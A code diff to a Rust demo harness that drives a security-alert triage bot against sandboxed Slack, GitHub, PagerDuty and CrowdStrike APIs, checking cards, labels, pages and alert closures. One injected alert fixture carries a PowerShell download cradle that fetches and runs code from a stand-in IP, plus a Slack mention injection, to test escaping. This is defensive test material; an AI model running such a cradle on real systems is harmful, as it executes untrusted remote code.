@@ -2,8 +2,11 @@
 //!
 //! Every expectation is read back from the sandbox the way a person or a vendor would see it:
 //! Slack messages through `conversations.history`/`replies`, issues through GitHub's REST API,
-//! incidents through PagerDuty's, alert status through the CrowdStrike simulator. Nothing is
-//! read from Vigil's internals.
+//! incidents through PagerDuty's, alerts through CrowdStrike's Alerts API (with an OAuth2 token,
+//! like the client). Falcon does not return an alert's comments, so the comment a close carried
+//! is read from what CrowdStrike received. Nothing is read from Vigil's internals, and each
+//! verdict checks the thing it names: a card is matched to the alert that opened it, a label
+//! or an answer is looked for by its words.
 
 use std::cell::RefCell;
 use std::future::Future;
@@ -40,6 +43,8 @@ struct Demo {
     checks: RefCell<Vec<Check>>,
     /// (case id, composite id) of every case the scenario opened.
     cases: RefCell<Vec<(String, String)>>,
+    /// The CrowdStrike bearer token, once issued (Falcon limits token requests per IP).
+    falcon_token: RefCell<Option<String>>,
 }
 
 /// Seeded people and devices the scenario uses.
@@ -85,6 +90,7 @@ pub async fn run(opts: DemoOptions) -> anyhow::Result<bool> {
         base: base.clone(),
         checks: RefCell::new(vec![]),
         cases: RefCell::new(vec![]),
+        falcon_token: RefCell::new(None),
     };
     let connected = demo
         .wait("bot connects over Socket Mode (2 connections)", || async {
@@ -179,10 +185,12 @@ impl Demo {
 
     async fn owner_confirms(&self) -> Option<String> {
         println!("\n== 1. Low alert on Carol's laptop; Carol says it was her");
+        let cmdline = "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\" <!channel>";
         let alert = self
-            .inject(json!({"device": {"device_id": cast::CAROL_MBP}, "severity": 30, "name": "Suspicious PowerShell download cradle",
+            .inject(json!({"device": {"device_id": cast::CAROL_MBP}, "severity": 30,
+                "name": "PowerShellDownloadCradle", "display_name": "Suspicious PowerShell download cradle",
                 "tactic": "Execution", "technique": "Command and Scripting Interpreter", "technique_id": "T1059",
-                "cmdline": "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\" <!channel>"}))
+                "cmdline": cmdline}))
             .await;
         let card = self.wait_card_for_alert(&alert).await?;
         let case = card_case(&card);
@@ -193,10 +201,18 @@ impl Demo {
             issue.is_some() && dm.is_some(),
             "",
         );
+        // The command line is shown, escaped (`<!channel>` reads as text, never as a ping), on
+        // the card and in the DM; no field of either carries the raw mention.
+        let escaped = cmdline
+            .replace('&', "&amp;")
+            .replace('<', "&lt;")
+            .replace('>', "&gt;");
+        let shown_escaped =
+            |m: &Value| !m.to_string().contains("<!channel>") && message_text(m).contains(&escaped);
         self.check(
             &format!("{case}: hostile text cannot ping"),
-            !card.to_string().contains("<!channel>"),
-            "card text escaped",
+            shown_escaped(&card) && dm.as_ref().is_some_and(shown_escaped),
+            "the command line is on the card and in the DM, escaped",
         );
         let dm = dm?;
         println!("Carol's DM:\n{}", indent(&message_text(&dm)));
@@ -208,10 +224,12 @@ impl Demo {
             "",
         );
         let dm_channel = self.dm_channel(cast::CAROL).await;
+        // Her answer in her own words: the label of the button she presses.
+        let answer = button_label(&dm, "owner_me").unwrap_or_default();
         let v = self
             .click(cast::CAROL, &dm_channel, &ts(&dm), "owner_me")
             .await;
-        println!("Carol pressed \"Yes, this was me\" (acked={}).", v["acked"]);
+        println!("Carol pressed \"{answer}\" (acked={}).", v["acked"]);
         let labelled = self
             .wait(
                 &format!("{case}: issue labelled owner-confirmed with a comment"),
@@ -219,10 +237,18 @@ impl Demo {
             )
             .await;
         let (alerts, card_ts) = (self.alerts.clone(), ts(&card));
+        let said = format!("<@{}> answered *{answer}*", cast::CAROL);
         let threaded = self
             .wait(
                 &format!("{case}: the card's thread says what Carol answered"),
-                || self.thread_len(&alerts, &card_ts, 1),
+                || async {
+                    Ok(!answer.is_empty()
+                        && self
+                            .replies(&alerts, &card_ts)
+                            .await
+                            .iter()
+                            .any(|m| message_text(m).contains(&said)))
+                },
             )
             .await;
         if let Some(latest) = self
@@ -248,8 +274,12 @@ impl Demo {
             self.inject(json!({"composite_id": id, "severity": 30}))
                 .await;
         }
-        self.inject(json!({"device": {"device_id": cast::CAROL_MBP}, "severity": 35, "name": "PowerShell encoded command",
-            "tactic": "Execution", "technique_id": "T1059"})).await;
+        self.inject(
+            json!({"device": {"device_id": cast::CAROL_MBP}, "severity": 35,
+            "name": "PowerShellEncodedCommand", "display_name": "PowerShell encoded command",
+            "tactic": "Execution", "technique_id": "T1059"}),
+        )
+        .await;
         let alerts = self.alerts.clone();
         let grouped = self
             .wait(
@@ -257,7 +287,8 @@ impl Demo {
                 || self.thread_contains(&alerts, case, "joined"),
             )
             .await;
-        tokio::time::sleep(Duration::from_millis(500)).await;
+        // Alerts are admitted in order, so once the grouped one (injected last) shows, the
+        // duplicate before it was handled too: no need to wait and hope.
         let after = self.cards().await.len();
         self.check(
             "no second card for a duplicate or grouped alert",
@@ -283,7 +314,8 @@ impl Demo {
     async fn owner_denies(&self) {
         println!("\n== 3. Low alert on Dan's laptop; Dan says it was not him");
         let alert = self
-            .inject(json!({"device": {"device_id": cast::DAN_WIN}, "severity": 30, "name": "Unsigned binary from Downloads",
+            .inject(json!({"device": {"device_id": cast::DAN_WIN}, "severity": 30,
+                "name": "UnsignedBinaryFromDownloads", "display_name": "Unsigned binary from Downloads",
                 "tactic": "Execution", "technique_id": "T1204", "technique": "User Execution", "filename": "invoice.pdf.exe"}))
             .await;
         let Some(card) = self.wait_card_for_alert(&alert).await else {
@@ -305,7 +337,10 @@ impl Demo {
             .await;
         self.wait(
             &format!("{case}: issue labelled owner-denied and paged"),
-            || self.issue_has(&case, "paged", 2),
+            || async {
+                Ok(self.issue_has(&case, "owner-denied", 2).await?
+                    && self.issue_has(&case, "paged", 2).await?)
+            },
         )
         .await;
         if paged {
@@ -317,7 +352,8 @@ impl Demo {
         println!("\n== 4. High-priority identity alert for Erin's account");
         let alert = self
             .inject(json!({"product": "idp", "severity": 70, "source_account_upn": "erin.shaw@acme.example", "user_name": "erin.shaw",
-                "name": "Password spray against Erin's account", "tactic": "Credential Access", "technique_id": "T1110"}))
+                "name": "PasswordSpraying", "display_name": "Password spray against Erin's account",
+                "tactic": "Credential Access", "technique_id": "T1110"}))
             .await;
         let Some(card) = self.wait_card_for_alert(&alert).await else {
             return;
@@ -355,7 +391,8 @@ impl Demo {
     async fn silent_owner(&self) {
         println!("\n== 5. Low alert on Erin's laptop; Erin never answers");
         let alert = self
-            .inject(json!({"device": {"device_id": cast::ERIN_LNX}, "severity": 25, "name": "curl to a paste site",
+            .inject(json!({"device": {"device_id": cast::ERIN_LNX}, "severity": 25,
+                "name": "CurlToPasteSite", "display_name": "curl to a paste site",
                 "tactic": "Command and Control", "technique_id": "T1105", "technique": "Ingress Tool Transfer"}))
             .await;
         let Some(card) = self.wait_card_for_alert(&alert).await else {
@@ -419,18 +456,9 @@ impl Demo {
                 || self.issue_closed(case, "not_planned"),
             )
             .await;
-        let alert_closed = self
-            .wait(
-                &format!("{case}: CrowdStrike alert closed with a comment"),
-                || self.alert_closed(case),
-            )
+        self.wait_closed_everywhere(case, cast::ANA, "expected admin activity")
             .await;
-        let final_card = self
-            .wait(&format!("{case}: card is final (no buttons)"), || {
-                self.card_final(case)
-            })
-            .await;
-        let _ = (closed, alert_closed, final_card);
+        let _ = closed;
     }
 
     async fn resolve_by_modal(&self) {
@@ -463,8 +491,13 @@ impl Demo {
             return;
         }
         let view_id = view.borrow().clone();
-        self.post("/_sandbox/slack/submit", json!({"user": cast::BEN, "view_id": view_id,
-            "values": {"reason": {"reason": {"type": "plain_text_input", "value": "host reimaged, credentials rotated"}}}})).await;
+        let reason = "host reimaged, credentials rotated";
+        self.post(
+            "/_sandbox/slack/submit",
+            json!({"user": cast::BEN, "view_id": view_id,
+            "values": {"reason": {"reason": {"type": "plain_text_input", "value": reason}}}}),
+        )
+        .await;
         self.wait(&format!("{case}: PagerDuty incident resolved"), || {
             self.incident_resolved(&case)
         })
@@ -472,6 +505,28 @@ impl Demo {
         self.wait(&format!("{case}: GitHub issue closed as completed"), || {
             self.issue_closed(&case, "completed")
         })
+        .await;
+        self.wait_closed_everywhere(&case, cast::BEN, reason).await;
+    }
+
+    /// The end of a resolve: the CrowdStrike alert is closed (read through the Alerts API),
+    /// the close carried the reason as its comment, and the card turned final (no buttons,
+    /// the resolution in its state).
+    async fn wait_closed_everywhere(&self, case: &str, by: &str, reason: &str) {
+        self.wait(
+            &format!("{case}: CrowdStrike alert closed (Alerts API)"),
+            || self.alert_closed(case),
+        )
+        .await;
+        self.wait(
+            &format!("{case}: CrowdStrike received the reason as a comment"),
+            || self.alert_commented(case, reason),
+        )
+        .await;
+        self.wait(
+            &format!("{case}: card is final (no buttons, resolved by {by})"),
+            || self.card_final(case, by, reason),
+        )
         .await;
     }
 
@@ -646,34 +701,52 @@ impl Demo {
         cards
     }
 
-    /// Waits for the card of a new case (one the scenario has not seen) and remembers which
-    /// alert opened it.
+    /// Waits for the card of a new case (one the scenario has not seen) that shows this alert
+    /// (read back through the Alerts API): its name, its host or account, and its console
+    /// link. Remembers which alert opened the case.
     async fn wait_card_for_alert(&self, composite_id: &str) -> Option<Value> {
         let started = Instant::now();
         let mut found = None;
+        let mut expected = None;
         while started.elapsed() < WAIT && found.is_none() {
-            found = self.cards().await.into_iter().find(|c| {
-                !self
-                    .cases
-                    .borrow()
-                    .iter()
-                    .any(|(case, _)| *case == card_case(c))
-            });
+            if expected.is_none() {
+                expected = self
+                    .falcon_alert(composite_id)
+                    .await
+                    .ok()
+                    .flatten()
+                    .map(|a| AlertFacts::of(&a));
+            }
+            if let Some(facts) = &expected {
+                found = self.cards().await.into_iter().find(|c| {
+                    let new = !self
+                        .cases
+                        .borrow()
+                        .iter()
+                        .any(|(case, _)| *case == card_case(c));
+                    new && facts.shown_on(c)
+                });
+            }
             if found.is_none() {
                 tokio::time::sleep(Duration::from_millis(100)).await;
             }
         }
-        let detail = found
-            .as_ref()
-            .map(|c| {
-                format!(
-                    "{} after {} ms",
-                    card_case(c),
-                    started.elapsed().as_millis()
-                )
-            })
-            .unwrap_or_default();
-        self.check("a card appears in #alerts", found.is_some(), &detail);
+        let detail = match (&found, &expected) {
+            (Some(c), Some(f)) => format!(
+                "{} shows {} on {} after {} ms",
+                card_case(c),
+                f.name,
+                f.subject,
+                started.elapsed().as_millis()
+            ),
+            (None, Some(f)) => format!("no new card shows {} on {}", f.name, f.subject),
+            (_, None) => format!("alert {composite_id} not found through the Alerts API"),
+        };
+        self.check(
+            "a card for the alert appears in #alerts",
+            found.is_some(),
+            &detail,
+        );
         if let Some(c) = &found {
             self.cases
                 .borrow_mut()
@@ -791,10 +864,6 @@ impl Demo {
             .unwrap_or_default()
     }
 
-    async fn thread_len(&self, channel: &str, ts: &str, n: usize) -> anyhow::Result<bool> {
-        Ok(self.replies(channel, ts).await.len() >= n)
-    }
-
     async fn thread_contains(
         &self,
         channel: &str,
@@ -848,18 +917,88 @@ impl Demo {
             && self.incident(case).await?)
     }
 
+    /// A CrowdStrike bearer token (`POST /oauth2/token`, client credentials), kept once issued.
+    async fn falcon_token(&self) -> anyhow::Result<String> {
+        if let Some(t) = self.falcon_token.borrow().clone() {
+            return Ok(t);
+        }
+        let cs = &self.creds["crowdstrike"];
+        let v: Value = self
+            .http
+            .post(format!("{}/crowdstrike/oauth2/token", self.base))
+            .form(&[
+                ("client_id", cs["client_id"].as_str().unwrap_or("")),
+                ("client_secret", cs["client_secret"].as_str().unwrap_or("")),
+            ])
+            .send()
+            .await?
+            .json()
+            .await?;
+        let token = v["access_token"]
+            .as_str()
+            .ok_or_else(|| anyhow::anyhow!("CrowdStrike issued no token: {v}"))?
+            .to_string();
+        *self.falcon_token.borrow_mut() = Some(token.clone());
+        Ok(token)
+    }
+
+    /// One alert by composite id, through `POST /alerts/entities/alerts/v2`.
+    async fn falcon_alert(&self, composite_id: &str) -> anyhow::Result<Option<Value>> {
+        let token = self.falcon_token().await?;
+        let r = self
+            .http
+            .post(format!(
+                "{}/crowdstrike/alerts/entities/alerts/v2",
+                self.base
+            ))
+            .bearer_auth(token)
+            .json(&json!({"composite_ids": [composite_id]}))
+            .send()
+            .await?;
+        if r.status() == reqwest::StatusCode::UNAUTHORIZED {
+            self.falcon_token.borrow_mut().take();
+            anyhow::bail!("CrowdStrike answered 401; a new token next time");
+        }
+        let v: Value = r.json().await?;
+        Ok(v["resources"]
+            .as_array()
+            .and_then(|a| a.iter().find(|x| x["composite_id"] == json!(composite_id)))
+            .cloned())
+    }
+
     async fn alert_closed(&self, case: &str) -> anyhow::Result<bool> {
         let Some(id) = self.alert_of_case(case) else {
             return Ok(false);
         };
-        let a = self
-            .get(&format!("/_sandbox/crowdstrike/alerts/{}", urlencode(&id)))
-            .await?;
-        let status = a["status"]
-            .as_str()
-            .or_else(|| a["alert"]["status"].as_str())
-            .unwrap_or("");
-        Ok(status == "closed" && !a["comments"].as_array().map(Vec::is_empty).unwrap_or(true))
+        Ok(self
+            .falcon_alert(&id)
+            .await?
+            .is_some_and(|a| a["status"] == json!("closed")))
+    }
+
+    /// Whether CrowdStrike received a status update for the case's alert whose comment
+    /// carries `reason` (Falcon's alert objects do not include comments).
+    async fn alert_commented(&self, case: &str, reason: &str) -> anyhow::Result<bool> {
+        let Some(id) = self.alert_of_case(case) else {
+            return Ok(false);
+        };
+        let v = self.get("/_sandbox/requests?service=crowdstrike").await?;
+        Ok(v["requests"].as_array().is_some_and(|reqs| {
+            reqs.iter().any(|r| {
+                let b = &r["body"];
+                r["method"] == json!("PATCH")
+                    && r["status"] == json!(200)
+                    && b["composite_ids"]
+                        .as_array()
+                        .is_some_and(|ids| ids.contains(&json!(id)))
+                    && b["action_parameters"].as_array().is_some_and(|ps| {
+                        ps.iter().any(|p| {
+                            p["name"] == json!("append_comment")
+                                && p["value"].as_str().is_some_and(|c| c.contains(reason))
+                        })
+                    })
+            })
+        }))
     }
 
     async fn card_says(&self, case: &str, needle: &str) -> anyhow::Result<bool> {
@@ -869,12 +1008,17 @@ impl Demo {
             .any(|c| card_case(c) == case && message_text(c).contains(needle)))
     }
 
-    async fn card_final(&self, case: &str) -> anyhow::Result<bool> {
+    /// The card has no buttons left and its state says who resolved it and why.
+    async fn card_final(&self, case: &str, by: &str, reason: &str) -> anyhow::Result<bool> {
         let cards = self.cards().await;
         let Some(card) = cards.iter().find(|c| card_case(c) == case) else {
             return Ok(false);
         };
-        Ok(!has_action(card, "case_ack") && !has_action(card, "case_resolve"))
+        let no_buttons = card["blocks"]
+            .as_array()
+            .is_some_and(|b| b.iter().all(|b| b["type"] != json!("actions")));
+        let state = format!("Resolved by <@{by}>: {reason}");
+        Ok(no_buttons && message_text(card).contains(&state))
     }
 
     fn case_is_paged(&self, card: &Value) -> bool {
@@ -998,8 +1142,63 @@ fn ts(message: &Value) -> String {
     message["ts"].as_str().unwrap_or("").to_string()
 }
 
-fn urlencode(s: &str) -> String {
-    url::form_urlencoded::byte_serialize(s.as_bytes()).collect()
+/// What a card must show to be the card of an alert: its name, its host (or account for
+/// identity alerts) and its id (in the console link).
+struct AlertFacts {
+    name: String,
+    subject: String,
+    id: String,
+}
+
+impl AlertFacts {
+    /// From a Falcon alert object as the Alerts API returns it.
+    fn of(alert: &Value) -> Self {
+        let text = |v: &Value| v.as_str().unwrap_or("").to_string();
+        let name = [&alert["display_name"], &alert["name"]]
+            .into_iter()
+            .map(text)
+            .find(|s| !s.is_empty())
+            .unwrap_or_default();
+        let subject = [
+            &alert["device"]["hostname"],
+            &alert["source_account_upn"],
+            &alert["user_name"],
+        ]
+        .into_iter()
+        .map(text)
+        .find(|s| !s.is_empty())
+        .unwrap_or_default();
+        AlertFacts {
+            name,
+            subject,
+            id: text(&alert["id"]),
+        }
+    }
+
+    fn shown_on(&self, card: &Value) -> bool {
+        let esc = |s: &str| {
+            s.replace('&', "&amp;")
+                .replace('<', "&lt;")
+                .replace('>', "&gt;")
+        };
+        let text = message_text(card);
+        !self.name.is_empty()
+            && !self.id.is_empty()
+            && text.contains(&format!("*{}*", esc(&self.name)))
+            && text.contains(&format!("`{}`", esc(&self.subject)))
+            && text.contains(&self.id)
+    }
+}
+
+/// The text of the button with this action id.
+fn button_label(message: &Value, action_id: &str) -> Option<String> {
+    message["blocks"].as_array()?.iter().find_map(|b| {
+        b["elements"].as_array()?.iter().find_map(|e| {
+            (e["action_id"] == json!(action_id))
+                .then(|| e["text"]["text"].as_str().map(str::to_string))
+                .flatten()
+        })
+    })
 }
 
 /// Whether a message has a button with this action id.
